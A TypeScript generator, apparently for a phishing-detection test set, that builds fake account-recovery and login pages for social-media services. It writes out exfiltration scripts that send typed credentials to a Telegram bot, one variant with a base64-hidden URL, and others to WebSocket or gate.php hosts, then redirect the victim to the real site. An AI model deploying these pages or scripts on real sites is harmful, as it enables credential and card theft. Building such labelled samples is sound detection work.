import type { Family } from '../family.ts'
import type { Chance } from '../make/chance.ts'
import { detour, lureUrl } from '../make/hosts/by-target.ts'
import { escaped } from '../make/pages/layout.ts'
import { disguised, sheetOf } from '../make/pages/sheets.ts'
import { isByPhone, type Pretext, SERVICES, type Service } from './services.ts'
import { type Step, stepFields } from './steps.ts'
import { MEDIA_WORDS, type MediaWords } from './words.ts'

const BAITS: Readonly<Record<Pretext, readonly string[]>> = {
  broken: ['billing', 'payment', 'renew', 'member', 'account-update', 'facturation', 'abo', 'pago'],
  held: [
    'appeal',
    'copyright',
    'business-help',
    'case',
    'policy-review',
    'verified-badge',
    'violation',
    'community',
  ],
  stopped: ['appeal', 'unlock', 'security', 'case', 'restore', 'verify'],
  gift: ['gift', 'nitro', 'premium', 'trade', 'vote', 'reward', 'promo'],
}

type Sending = readonly [attributes: string, script: string]

/** The form and script that send off what was typed; a platform's tenant has no server, so mostly to another host. */
function sending(chance: Chance): Sending {
  const values = 'Object.fromEntries(new FormData(e.target))'
  const on = (code: string) =>
    `<script>document.querySelectorAll("form").forEach(function(q){q.addEventListener("submit",async function(e){e.preventDefault();${code};next(q)})})</script>`
  const token = `${chance.digits(10)}:AA${chance.letters(33)}`
  return chance.of<() => Sending>([
    () => [
      `action="${chance.of(['auth.php', 'signin.php', 'inc/send.php', 'app/step1', 'submit'])}" method="post"`,
      '',
    ],
    () => ['action="" method="POST"', ''],
    () => [
      `action="https://${chance.of(['formsubmit.co', 'getform.io/f', 'usebasin.com/f', 'submit-form.com'])}/${chance.hex(12)}" method="POST"`,
      '',
    ],
    () => [
      `action="https://${chance.name(3)}.${chance.of(['ru', 'shop', 'com'])}/${chance.letters(3)}/gate.php" method="post"`,
      '',
    ],
    () => [
      '',
      on(
        `await fetch("https://api.telegram.org/bot${token}/sendMessage?chat_id=-100${chance.digits(10)}&text="+encodeURIComponent(JSON.stringify(${values})))`,
      ),
    ],
    () => [
      '',
      on(
        `var t=atob("${Buffer.from(`https://api.telegram.org/bot${token}/sendMessage`).toString('base64')}");await fetch(t,{method:"POST",body:new URLSearchParams({chat_id:"${chance.digits(9)}",text:JSON.stringify(${values})})})`,
      ),
    ],
    () => ['', on(`await axios.post("/api/${chance.of(['log', 'save', 'collect'])}",${values})`)],
    () => [
      '',
      on(
        `new WebSocket("wss://${chance.name(3)}.${chance.of(['top', 'online'])}/panel").onopen=function(){this.send(JSON.stringify(${values}))}`,
      ),
    ],
  ])()
}

/** The steps that this page shows, the first one open and the rest hidden. */
function stepsOf(claimed: Service, pretext: Pretext, chance: Chance): readonly Step[] {
  const second = pretext === 'broken' ? 'card' : 'code'
  if (isByPhone(claimed)) return chance.of([['phone', 'code'], ['code'], ['phone', 'code', 'enter']])
  return chance.of([
    ['enter'],
    ['enter'],
    ['enter', second],
    ['enter', second],
    [second],
    ['enter', 'card', 'code'],
  ])
}

/** A window painted into the page, with the address of the service for a reader to trust. */
function painted(inner: string, { name, own }: Service): string {
  return `<div class="window" style="width:480px;box-shadow:0 0 30px #000"><div class="bar"><span class="title">${escaped(name)}</span><span class="x">&#10005;</span></div><div class="url"><img src="ssl.svg" alt=""><span>https://</span><b>${own[0]}</b></div><div class="inner">${inner}</div></div>`
}

/** The steps as forms; a kit that lets its server choose the step shows one. */
function formsOf({ claimed, pretext, words }: Lure, [attributes, script]: Sending, chance: Chance): string {
  const steps = stepsOf(claimed, pretext, chance)
  const shown = script === '' ? steps.slice(0, 1) : steps
  const forms = shown.map((step, index) => {
    const label = step === 'card' ? words.save : chance.of([words.enter, words.act])
    const hidden = index > 0 ? chance.of([' hidden', ' style="display:none"']) : ''
    return `<form ${attributes} class="step"${hidden}>${stepFields(step, words, chance)}<button type="submit" class="btn-main">${escaped(label)}</button></form>`
  })
  const all = `${forms.join('')}<p id="done" hidden>${escaped(words.done)}</p>`
  return chance.maybe(0.1) ? painted(all, claimed) : all
}

interface Lure {
  readonly claimed: Service
  readonly pretext: Pretext
  readonly words: MediaWords
}

/** Whether title, logo and foot of the page name the service; at least one of them does. */
const NAMED = [
  [true, true, true],
  [true, true, true],
  [true, true, false],
  [true, false, false],
  [false, true, true],
  [false, false, true],
] as const

function logoOf({ assets, label }: Service, brand: string, isNamed: boolean, chance: Chance): string {
  const source = chance.of([
    `https://${assets}/logo.svg`,
    'images/logo.png',
    `./${label}_files/logo.svg`,
    'data:image/svg+xml;base64,PHN2Zy8+',
  ])
  if (!isNamed) return `<img src="${source}" height="36">`
  return chance.of([
    `<img src="${source}" alt="${brand}" height="36">`,
    `<a class="brand" href="#">${brand}</a>`,
    `<svg viewBox="0 0 111 30" aria-label="${brand}" role="img"><path d="M105 14l5 15z"/></svg>`,
  ])
}

export const mediaAccountKit: Family = {
  id: 'media_account_kit',
  expected: 'dangerous',
  split: 'held-out',
  make(chance) {
    const claimed = chance.of(SERVICES)
    const words = chance.of([...MEDIA_WORDS, ...MEDIA_WORDS.slice(0, 1)])
    const pretext = chance.of(claimed.pretexts)
    const said = chance.of(words[pretext]).replace('{s}', claimed.name)
    const way = sending(chance)
    const brand = disguised(claimed.name, chance)
    const [inTitle, inLogo, inFoot] = chance.of(NAMED)
    const titles = [brand, `${escaped(words.enter)} | ${brand}`, `${brand} - ${escaped(said.slice(0, 40))}`]
    const icon = chance.of([
      '',
      `<link rel="icon" href="https://www.${claimed.domain}/favicon.ico">`,
      '<link rel="icon" href="favicon.png">',
    ])
    const robots = chance.maybe(0.3) ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''
    const links = words.links.map((text) => `<a href="#">${escaped(text)}</a>`).join(' ')
    const line = `<p>${chance.of(['©', '&copy;', '(c)'])} ${chance.of([2024, 2025, 2026])} ${brand}</p>`
    const next = `<script>function next(f){var n=f.nextElementSibling;f.style.display="none";if(n){n.hidden=false;n.style.display=""}if(!n||n.id==="done")setTimeout(function(){location.replace("https://www.${claimed.domain}/")},${1000 + chance.below(3000)})}</script>`
    const body = sheetOf(
      {
        language: words.language,
        title: inTitle ? chance.of(titles) : escaped(said),
        head: icon + robots,
        top: logoOf(claimed, brand, inLogo, chance),
        heading: said,
        main: `${chance.maybe(0.4) ? `<p class="case">Case #${chance.digits(10)}</p>` : ''}${formsOf({ claimed, pretext, words }, way, chance)}`,
        foot: links + (inFoot ? line : ''),
        scripts: way[1] === '' ? '' : next + way[1],
      },
      true,
      chance,
    )
    const file = chance.of(['', '', 'index.php', 'login.html', `?c=${chance.hex(8)}`])
    const url = lureUrl(claimed, BAITS[pretext], file, chance)
    return { url, body, way: detour(url, chance), isHonest: false }
  },
}
